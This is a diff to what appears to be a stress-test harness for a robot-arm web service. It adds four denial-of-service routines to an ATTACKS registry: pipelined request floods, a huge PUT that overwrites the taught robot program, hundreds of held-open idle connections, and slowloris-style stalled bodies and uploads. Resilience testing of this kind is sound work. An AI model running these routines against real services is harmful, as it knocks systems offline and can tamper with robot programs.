@@ -11,10 +11,12 @@ import gzip
 import http.client
 import io
 import json
+import socket
 import struct
 import sys
 import threading
 import time
+from collections import deque
 from collections.abc import Callable
 
 from websockets.asyncio.client import connect
@@ -116,10 +118,62 @@ def _ask(address: str, seconds: float) -> None:
     _repeat(seconds, lambda: _get(address, "/api/state"))
 
 
+def pipeline(address: str, seconds: float) -> None:
+    """Send requests without waiting for their answers, 250 kB at once."""
+    host, port = address.split(":")
+    data = b"GET / HTTP/1.1\r\n\r\n" * 14_000
+
+    def once() -> None:
+        with socket.create_connection((host, int(port)), 10) as line:
+            line.sendall(data)
+
+    _repeat(seconds, once)
+
+
+def program(address: str, seconds: float) -> None:
+    """Replace the taught program by one of 300,000 empty positions, 900 kB."""
+    text = b'{"client":"attacker-1","program":{"name":"a","arm":"ur5e","positions":['
+    data, head = text + b"{}," * 300_000 + b"{}]}}", {"Content-Type": "application/json"}
+    _repeat(seconds, lambda: _request(address, "PUT", "/api/teach/program", data, head))
+
+
+def connections(address: str, seconds: float) -> None:
+    """Open connections that send nothing as fast as possible, the newest 450 kept open."""
+    host, port = address.split(":")
+    kept: deque[socket.socket] = deque()
+
+    def once() -> None:
+        kept.append(socket.create_connection((host, int(port)), 10))
+        if len(kept) > 450:
+            kept.popleft().close()
+
+    _repeat(seconds, once)
+
+
+def bodies(address: str, seconds: float) -> None:
+    """Begin 135 requests whose bodies never come, and 200 MB uploads that never begin."""
+    host, port = address.split(":")
+    head = f"HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\nContent-Length: "
+    starts = [f"POST /api/fk {head}1000\r\n\r\n{{"] * 135
+    starts += [f"POST /api/uploads?name=a.csv {head}200000000\r\n\r\n"] * 20
+
+    def once() -> None:
+        with contextlib.ExitStack() as lines:
+            for start in starts:
+                line = lines.enter_context(socket.create_connection((host, int(port)), 10))
+                line.sendall(start.encode())
+            time.sleep(2.0)
+
+    _repeat(seconds, once)
+
+
 ATTACKS: dict[str, Callable[[str, float], None]] = {
     one.__name__: one
-    for one in (export, long_export, archive, bomb, upload, preview, sockets, requests)
-}
+    for one in (
+        export, long_export, archive, bomb, upload, preview, sockets, requests,
+        pipeline, program, connections, bodies,
+    )
+}  # fmt: skip
 
 
 def zip_of_entries(count: int) -> bytes:
